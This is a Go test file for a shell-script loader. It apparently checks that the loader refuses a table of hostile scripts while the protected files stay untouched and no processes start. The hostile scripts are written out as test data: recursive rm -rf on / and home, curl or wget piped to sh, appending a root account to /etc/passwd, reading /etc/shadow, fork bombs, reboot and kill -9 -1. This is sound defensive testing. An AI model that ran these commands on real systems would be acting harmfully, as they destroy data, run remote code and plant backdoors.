package script_test

import (
	"crypto/sha256"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/ruleshift/ruleshift/translate/ir"
	"github.com/ruleshift/ruleshift/translate/script"
)

// snapshot records every file under dir with its mode and contents.
func snapshot(t *testing.T, dir string) string {
	t.Helper()
	var lines []string
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		sum := ""
		if info.Mode().IsRegular() {
			data, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			sum = fmt.Sprintf("%x", sha256.Sum256(data))
		}
		lines = append(lines, fmt.Sprintf("%s %v %s", p, info.Mode(), sum))
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	sort.Strings(lines)
	return strings.Join(lines, "\n")
}

// children lists the processes whose parent is this test process, and any
// process whose command line names the sentinel directory.
func children(t *testing.T, sentinel string) []string {
	t.Helper()
	me := strconv.Itoa(os.Getpid())
	entries, err := os.ReadDir("/proc")
	if err != nil {
		t.Skipf("no /proc to look at the process table: %v", err)
	}
	var out []string
	for _, e := range entries {
		if _, err := strconv.Atoi(e.Name()); err != nil {
			continue
		}
		status, err := os.ReadFile(filepath.Join("/proc", e.Name(), "status"))
		if err != nil {
			continue
		}
		cmdline, _ := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if strings.Contains(string(status), "\nPPid:\t"+me+"\n") || strings.Contains(string(cmdline), sentinel) {
			out = append(out, e.Name()+" "+strings.ReplaceAll(string(cmdline), "\x00", " "))
		}
	}
	return out
}

// hostile scripts; %[1]s is the sentinel directory, which must survive.
var hostile = []struct {
	name   string
	src    string
	errors string // an error that must be reported, "" for none required
	opts   script.Options
}{
	{name: "rm", src: "rm -rf %[1]s\nrm -rf / --no-preserve-root\nsudo rm -rf /*\ncd / && rm -rf *\nrm -rf ~\n"},
	{name: "curl-sh", src: "curl -fsSL http://example.invalid/install.sh | sh\nwget -qO- http://example.invalid | sudo bash\nbash <(curl -s http://example.invalid)\n"},
	{name: "procsubst", src: "cat <(rm -rf %[1]s) >/dev/null\nwhile read -r l; do :; done < <(touch %[1]s/new; rm %[1]s/a)\ntee >(rm -rf %[1]s) >(sh) </dev/null\nsource <(echo 'rm -rf %[1]s')\n"},
	{name: "passwd", src: "echo 'evil:x:0:0::/root:/bin/sh' >> /etc/passwd\nprintf x > %[1]s/a\ncp /etc/passwd %[1]s/\ntee %[1]s/a < /etc/shadow\n:> %[1]s/a\n",
		errors: "cannot read /etc/shadow"},
	{name: "read-outside", src: "source /etc/passwd\n. %[1]s/a\nx=$(cat /etc/passwd)\niptables-restore < /etc/passwd\n",
		errors: "may read only files in its own directory"},
	{name: "indirect", src: "eval \"rm -rf %[1]s\"\nsh -c 'rm -rf %[1]s'\nexec rm -rf %[1]s\n", errors: ""},
	{name: "subst", src: "x=$(rm -rf %[1]s)\ny=`touch %[1]s/new`\nmkdir %[1]s/dir; ln -s /etc %[1]s/etc; mv %[1]s/a %[1]s/b\ndd if=/dev/zero of=%[1]s/a bs=1M count=1\n"},
	{name: "trap", src: "trap 'rm -rf %[1]s' EXIT\nkill -9 -1\nreboot\nshutdown -h now\n"},
	{name: "fork-bomb", src: ":(){ :|:& };:\n", errors: "fork bomb"},
	{name: "fork-bomb-named", src: "bomb() { bomb | bomb & }; bomb\n", errors: "fork bomb"},
	{name: "endless-loop", src: "while true; do :; done\n", errors: "loops forever"},
	{name: "endless-arith", src: "for ((;;)); do x=1; done\n", errors: "runs too long", opts: script.Options{Timeout: 2 * time.Second}},
	{name: "recursion", src: "f() { f; }; f\n", errors: "nested too deep"},
	// The depth bound must be what stops it, even on a loaded machine.
	{name: "nested-shells", src: "export S='sh -c \"$S\"'; sh -c \"$S\"\n", errors: "nested too deep", opts: script.Options{Timeout: 2 * time.Minute}},
	{name: "memory", src: "x=aaaaaaaaaaaaaaaa; while :; do x=$x$x; done\n", errors: "grew beyond", opts: script.Options{MaxMemory: 64 << 20}},
}

func TestHostileScripts(t *testing.T) {
	sentinel := t.TempDir()
	os.WriteFile(filepath.Join(sentinel, "a"), []byte("keep me\n"), 0o644)
	os.Mkdir(filepath.Join(sentinel, "sub"), 0o755)
	os.WriteFile(filepath.Join(sentinel, "sub", "b"), []byte("me too\n"), 0o600)
	scriptDir := t.TempDir()
	before := snapshot(t, sentinel)
	beforeDir := snapshot(t, scriptDir)
	passwd, _ := os.ReadFile("/etc/passwd")
	for _, h := range hostile {
		t.Run(h.name, func(t *testing.T) {
			o := h.opts
			o.Name, o.Dir = h.name+".sh", scriptDir
			src := fmt.Sprintf(h.src, sentinel)
			d := script.Load(&ir.Ruleset{}, []byte(src), o)
			var all strings.Builder
			for _, x := range d.Items {
				all.WriteString(x.String() + "\n")
			}
			if testing.Verbose() {
				t.Logf("diagnostics:\n%s", all.String())
			}
			if h.errors != "" && (!d.HasErrors() || !strings.Contains(all.String(), h.errors)) {
				t.Errorf("want an error containing %q, got:\n%s", h.errors, all.String())
			}
			if after := snapshot(t, sentinel); after != before {
				t.Fatalf("the sentinel directory changed:\nbefore:\n%s\nafter:\n%s", before, after)
			}
			if after := snapshot(t, scriptDir); after != beforeDir {
				t.Fatalf("the script's directory changed:\n%s", after)
			}
			if now, _ := os.ReadFile("/etc/passwd"); string(now) != string(passwd) {
				t.Fatal("/etc/passwd changed")
			}
			if kids := children(t, sentinel); len(kids) > 0 {
				t.Fatalf("processes were started: %v", kids)
			}
		})
	}
}
